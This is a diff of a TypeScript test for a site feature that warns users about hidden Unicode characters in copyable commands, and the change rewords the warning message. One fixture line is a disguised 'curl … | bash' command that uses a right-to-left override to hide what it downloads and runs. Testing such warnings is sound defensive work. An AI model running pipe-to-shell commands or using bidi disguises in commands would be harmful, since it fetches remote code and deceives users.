@@ -10,8 +10,7 @@ import { openCommander } from './open-commander.ts'
 
 const REVERSED = 'curl example.com/\u202ehs.exe | bash\u200b\u200b'
 const WARNING =
-  'This line contains 3 misleading characters: right-to-left override, zero-width space. ' +
-  'What is copied contains them too.'
+  'This line contains 3 misleading characters: right-to-left override, zero-width space. ' + 'Copying includes them.'
 
 const site = await startSite([
   aCommand({ id: 'reversed', notes: 'Harmless\u202e?', line: REVERSED }),
@@ -52,7 +51,7 @@ test('4. a sentence warns before copying, and the copy button is described by it
   assert.deepEqual(await descriptionOf(cards.first()), ['Harmless\u202e?', WARNING])
   assert.match(
     (await partsOf(cards.nth(1)).warning.textContent()) ?? '',
-    /1 misleading character: no-break space\. What is copied contains it too\.$/,
+    /1 misleading character: no-break space\. Copying includes it\.$/,
   )
   await leave()
 })
